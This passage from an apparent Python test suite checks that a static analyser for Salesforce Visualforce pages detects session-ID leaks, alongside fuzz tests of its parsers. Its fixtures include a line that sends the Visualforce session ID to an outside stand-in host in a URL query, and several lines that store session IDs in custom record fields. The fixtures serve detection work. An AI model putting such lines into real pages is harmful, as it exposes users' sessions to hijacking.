    """`'<img src="{!URLFOR($Resource.Tiles,` / `'Tiles/a.png')}"/>'`: Visualforce writes the value on
    one line, so the browser's script is valid (triage AD-8); a session use after it is still read,
    and a field over two lines in code (`{!isAdmin` / `}`) still parses as one identifier."""
    ir = lower(page("<script>\n"
                    "var tile = { html: '<img src=\"{!URLFOR($Resource.Tiles,\n"
                    "    'Tiles/a.png')}\"/>', go: function() { return 1; } };\n"
                    "var admin = {!isAdmin\n}, other = 2;\n"
                    "window.open('https://x.example.com/?s={!$Api.Session_ID}');\n"
                    "</script>"))
    assert ir.notifications == ()
    assert sink(ir, "window.open").in_query


# The regular expressions AE-13 replaced with searches (each ran many unclosed openers to the end
# of the file): the searches must find what they found.
OLD_ATTRIBUTE = re.compile(r"""<apex:attribute\b[^>]*?\bname\s*=\s*["']\s*([A-Za-z_][A-Za-z0-9_]*)\s*["']""",
                           re.IGNORECASE)
OLD_CDATA = re.compile(rb"<!\[CDATA\[(.*?)\]\]>", re.DOTALL)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from([
    "<apex:attribute", "<APEX:Attribute", " name", "name", "=", '"', "'", "tok", "x_1", ">", "/>", "<", " ",
    "\n", "é", "1", "type=\"String\"", "<apex:attributes",
])).map("".join))
def test_attribute_names_are_the_ones_the_regular_expression_found(text: str) -> None:
    assert _attribute_names(text) == {m.group(1).lower() for m in OLD_ATTRIBUTE.finditer(text)}


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from([b"<![CDATA[", b"]]>", b"]]", b"]", b"<", b"!", b"a", b"\n", b"<![CDATA"]))
       .map(b"".join))
def test_cdata_markers_are_blanked_as_the_regular_expression_did(data: bytes) -> None:
    expected = OLD_CDATA.sub(lambda m: b" " * 9 + m.group(1) + b" " * 3, data) if b"<![CDATA[" in data else data
    assert _without_cdata_markers(data) == expected


def test_only_the_first_unclosed_comment_opener_is_left_for_the_parser() -> None:
    closed = b"<!-- a --><p>x</p><!-- b -->"
    assert _one_unclosed_comment(closed) == closed
    assert _one_unclosed_comment(closed + b"<!-- c") == closed + b"<!-- c"
    assert _one_unclosed_comment(closed + b"<!-- c <!--<!--d") == closed + b"<!-- c         d"
    # an opener's own dashes close nothing: the grammar looks for `-->` after them
    assert _one_unclosed_comment(b"<!-->x<!--") == b"<!-->x    "


# -- Visualforce Remote Objects -------------------------------------------------------------------
def test_remote_objects_are_known_by_their_base_model_and_short_names() -> None:
    models = remote_models(
        '<apex:remoteObjects><apex:remoteObjectModel name="Cfg__c" fields="Id"/></apex:remoteObjects>\n'
        '<APEX:REMOTEOBJECTS jsNamespace="Acme">\n'
        '  <apex:remoteObjectModel name="ns__Vault__c" jsShorthand="Vault">\n'
        '    <apex:remoteObjectField name="ns__Token__c" jsShorthand="token"/>\n'
        '  </apex:remoteObjectModel>\n'
        '  <apex:remoteObjectField name="Stray__c" jsShorthand="stray"/>\n'
        '  <apex:remoteObjectModel name="{!objectName}"/>\n'
        '</APEX:REMOTEOBJECTS>\n'
        '<apex:remoteObjectModel name="Outside__c"/>')
    assert {name: (sobject, fields) for name, (sobject, fields) in models.items()} == {
        "SObjectModel.Cfg__c": ("Cfg__c", {}),
        "Acme.ns__Vault__c": ("ns__Vault__c", {"token": "ns__Token__c"}),
        "Acme.Vault": ("ns__Vault__c", {"token": "ns__Token__c"}),
    }


def test_sessions_saved_with_remote_objects_name_their_object_and_field() -> None:
    ir = lower(page(
        '<apex:remoteObjects jsNamespace="Acme">'
        '<apex:remoteObjectModel name="Vault__c" jsShorthand="Vault">'
        '<apex:remoteObjectField name="Token__c" jsShorthand="token"/></apex:remoteObjectModel></apex:remoteObjects>\n'
        "<script>\n"
        "new Acme.Vault({ token: '{!$Api.Session_ID}', Note__c: 'x' }).create();\n"
        "var cfg = new SObjectModel.Cfg__c();\n"
        "cfg.update({ Sid__c: sforce.connection.sessionId, Label__c: '{!$User.Username}' });\n"
        "new Other.Cfg__c({ Sid__c: '{!$Api.Session_ID}' }).create();\n"
        "</script>"))
    ids: dict[str, str] = {}
    for source in ir.sources:  # the first of each (the last line's base model is not the page's)
        ids.setdefault(source.text, source.id)
    assert ir.stored_fields == tuple(sorted([
        ("Vault__c", "Token__c", ids["{!$Api.Session_ID}"]),
        ("Cfg__c", "Sid__c", ids["sforce.connection.sessionId"]),
    ]))
    assert [u.sink for u in ir.url_uses] == ["RemoteObjectModel.create", "RemoteObjectModel.update"]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
@pytest.mark.parametrize("opener", [
    "<apex:remoteObjects ", '<apex:remoteObjectModel name="', "<apex:remoteObjectField a='"])
def test_remote_object_declarations_never_closed_are_read_in_linear_time(opener: str) -> None:
    from tests.fuzz.inputs import deadline
    with deadline(2.0):
        assert remote_models(opener * 100_000) == {}


def test_sessions_saved_with_the_ajax_toolkit_name_their_object_and_field() -> None:
    ir = lower(page(
        "<script>\n"
        "function keep() {\n"
        "    var cfg = new sforce.SObject('Cfg__c');\n"
        "    cfg.Sid__c = sforce.connection.sessionId;\n"
        "    cfg.Label__c = 'x';\n"
        "    sforce.connection.create([cfg]);\n"
        "}\n"
        "var one = new sforce.SObject('Other__c');\n"
        "one.Token__c = '{!$Api.Session_ID}';\n"
        "sforce.connection.update(one);\n"
        "var plain = new sforce.SObject('Plain__c');\n"
        "plain.Name = 'x';\n"
        "var keyed = new sforce.SObject('Keyed__c');\n"
        "keyed.Sid__c = __sfdcSessionId;\n"
        "sforce.connection.upsert('Key__c', [plain, keyed]);\n"
        "</script>"))
    ids = {s.text: s.id for s in ir.sources}
    assert ir.stored_fields == (("Cfg__c", "Sid__c", ids["sforce.connection.sessionId"]),
                                ("Keyed__c", "Sid__c", ids["__sfdcSessionId"]),
                                ("Other__c", "Token__c", ids["{!$Api.Session_ID}"]))


def test_a_field_set_on_a_remote_objects_record_is_saved_with_it() -> None:
    ir = lower(page(
        "<apex:remoteObjects><apex:remoteObjectModel name='Cfg__c'/></apex:remoteObjects><script>\n"
        "var cfg = new SObjectModel.Cfg__c();\n"
        "cfg.set('Sid__c', '{!$Api.Session_ID}');\n"
        "cfg.set('Label__c', 'kept');\n"
        "cfg.update();\n"
        "</script>"))
    (source,) = ir.sources
    assert ir.stored_fields == (("Cfg__c", "Sid__c", source.id),)
    assert [u.sink for u in ir.url_uses] == ["RemoteObjectModel.update"]
